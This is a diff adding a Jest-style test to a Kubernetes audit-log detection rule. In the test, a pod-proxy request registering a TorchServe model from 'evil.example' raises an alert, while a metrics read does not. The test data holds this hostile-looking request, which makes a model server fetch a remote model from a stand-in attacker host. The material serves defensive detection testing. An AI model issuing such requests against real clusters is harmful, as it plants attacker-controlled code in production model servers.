@@ -78,3 +78,16 @@ describe('platform.ml_workload_access: evasions', () => {
     expect(a[0]!.details).toMatchObject({ identity: 'mallory@corp.example', impersonated: 'system:serviceaccount:kserve:kserve-controller-manager' });
   });
 });
+
+describe('platform.ml_workload_access: the API server pod proxy', () => {
+  const POD = 'fraud-predictor-00001-deployment-7d9f8c6b5-x2x9z';
+  const proxy = (verb: string, path: string) => auditEvent({ verb, user: MALLORY, objectRef: { resource: 'pods', namespace: NS, name: `${POD}:8081`, apiVersion: 'v1', subresource: 'proxy' }, requestURI: `/api/v1/namespaces/${NS}/pods/${POD}:8081/proxy/${path}` });
+  it("a write through the proxy into a model server (TorchServe's management API registering a model) alerts; a read does not", () => {
+    const [reg] = norm([proxy('create', 'models?url=https%3A%2F%2Fevil.example%2Fm.mar')]);
+    expect(reg!.details?.ml_workload).toMatchObject({ kind: 'model_server', endpoint: `${NS}/fraud` });
+    const a = alerts([proxy('create', 'models?url=https%3A%2F%2Fevil.example%2Fm.mar'), proxy('get', 'metrics')]);
+    expect(a).toHaveLength(1);
+    expect(a[0]!.details).toMatchObject({ access: 'proxy', endpoint: `${NS}/fraud` });
+    expect(a[0]!.summary).toContain("sent a create request through the API server's proxy to pod");
+  });
+});
